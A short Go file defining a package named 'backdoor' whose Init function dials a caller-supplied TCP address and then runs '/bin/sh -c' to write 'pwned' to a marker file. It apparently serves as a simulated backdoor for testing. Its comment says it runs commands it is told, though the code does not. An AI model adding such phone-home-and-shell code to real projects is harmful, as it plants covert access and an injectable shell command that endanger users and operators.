// Package backdoor phones home and runs what it is told: a shell that
// writes a marker file.
package backdoor

import (
	"net"
	"os/exec"
)

// Init connects to address, then runs /bin/sh -c to write marker.
func Init(address, marker string) error {
	conn, err := net.Dial("tcp", address)
	if err != nil {
		return err
	}
	defer conn.Close()
	return exec.Command("/bin/sh", "-c", "echo pwned > "+marker).Run()
}
